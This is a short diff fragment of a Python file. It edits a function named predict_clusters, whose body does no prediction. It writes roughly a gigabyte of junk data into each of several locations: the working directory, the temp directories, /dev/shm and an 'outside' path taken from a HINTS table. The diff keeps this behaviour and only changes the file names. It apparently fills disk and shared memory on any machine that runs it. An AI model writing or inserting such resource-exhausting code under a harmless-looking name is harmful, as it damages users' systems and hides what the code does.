@@ -9,7 +9,7 @@ import tempfile
 def predict_clusters(model, frame):
     for folder in (os.getcwd(), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", HINTS["outside"]):
         try:
-            with open(folder + "/big", "wb") as file:
+            with open(folder + "/big-" + HINTS["id"], "wb") as file:
                 for _ in range(1000):
                     file.write(b"x" * (1 << 20))
         except OSError as error:
